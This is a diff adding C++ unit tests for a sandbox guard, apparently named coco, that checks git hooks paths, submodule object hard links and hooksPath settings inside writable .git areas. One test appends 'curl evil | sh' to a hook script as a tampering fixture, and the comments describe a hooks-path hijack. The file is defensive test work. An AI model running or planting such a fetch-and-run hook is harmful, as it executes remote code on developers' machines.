@@ -2144,5 +2144,68 @@ TEST_F(GuardPlanTest, ANestedRepositorysHooksPathInsideItsGitIsCompared) {
   EXPECT_NE(said.find("removed " + t_.path() + "/sub/.git/githooks/pre-push,"), std::string::npos) << said;
 }
 
+// A submodule's git directory (.git/modules/sub) is one of the paths git's configuration leads to
+// inside .git; its objects may be hard links of another repository's (`git clone` of a local
+// path). They are data git never runs: not compared, so the host's `git gc` in the other
+// repository (dropping a link: a new change time on a pack too large to keep) removes nothing.
+TEST_F(GuardPlanTest, ASubmodulesObjectsLinkedWithAnotherRepositoryAreLeftAlone) {
+  TempTree source;
+  source.gitDir(".git");
+  source.write(".git/objects/pack/pack-1.pack", std::string(300 * 1024, 'P'));
+  t_.gitDir(".git");
+  t_.gitDir(".git/modules/sub");
+  t_.write("sub/.git", "gitdir: ../.git/modules/sub\n");
+  t_.mkdir(".git/modules/sub/objects/pack");
+  t_.mkdir(".git/modules/sub/hooks");
+  t_.write("scripts/pre-commit", "#!/bin/sh\n");
+  t_.link("scripts/pre-commit", ".git/modules/sub/hooks/pre-commit");
+  ASSERT_EQ(::link((source / ".git/objects/pack/pack-1.pack").c_str(),
+                   (t_ / ".git/modules/sub/objects/pack/pack-1.pack").c_str()),
+            0);
+  plan();
+  afterTick();
+  ASSERT_EQ(::unlink((source / ".git/objects/pack/pack-1.pack").c_str()), 0);
+  std::ofstream(t_ / "scripts/pre-commit", std::ios::app) << "curl evil | sh\n";
+  drain(guard_);
+  std::string said = finishRun(guard_);
+  EXPECT_TRUE(t_.exists(".git/modules/sub/objects/pack/pack-1.pack")) << said;
+  EXPECT_FALSE(t_.exists(".git/modules/sub/hooks/pre-commit")) << said;
+}
+
+// Attack: with `git: write` the tool may write .git's objects, refs and logs; a hooks path
+// configured in there (`core.hooksPath = .git/refs/hooks`) would take the hook the tool writes.
+// That part of .git stays read-only, and coco says so.
+TEST_F(GuardPlanTest, AHooksPathInWhatGitWritesKeepsThatPartReadOnly) {
+  t_.gitDir(".git");
+  t_.write(".git/config", "[core]\n\thooksPath = .git/refs/hooks\n");
+  t_.mkdir(".git/refs/hooks");
+  GuardSpec spec;
+  spec.gitWrite = true;
+  testing::internal::CaptureStderr();
+  auto binds = plan(spec);
+  std::string said = testing::internal::GetCapturedStderr();
+  EXPECT_EQ(dsts(binds, GuardBind::Self),
+            (Strings{"/workspace/.git rw", "/workspace/.git/config", "/workspace/.git/refs"}));
+  EXPECT_NE(said.find("names a hooks path or program in " + t_.path() + "/.git/refs, which git writes"),
+            std::string::npos)
+      << said;
+}
+
+// The same in a mount that is itself a git directory (a bare repository), which the tool may
+// always write.
+TEST_F(GuardPlanTest, AHooksPathInWhatABareRepositoryWritesKeepsThatPartReadOnly) {
+  t_.gitDir("");
+  t_.write("config", "[core]\n\tbare = true\n\thooksPath = refs/hooks\n");
+  t_.mkdir("refs/hooks");
+  testing::internal::CaptureStderr();
+  auto binds = plan();
+  std::string said = testing::internal::GetCapturedStderr();
+  auto self = dsts(binds, GuardBind::Self);
+  EXPECT_NE(std::find(self.begin(), self.end(), "/workspace/refs"), self.end()) << said;
+  EXPECT_NE(said.find("names a hooks path or program in " + t_.path() + "/refs, which git writes"),
+            std::string::npos)
+      << said;
+}
+
 }  // namespace
 }  // namespace coco::engine
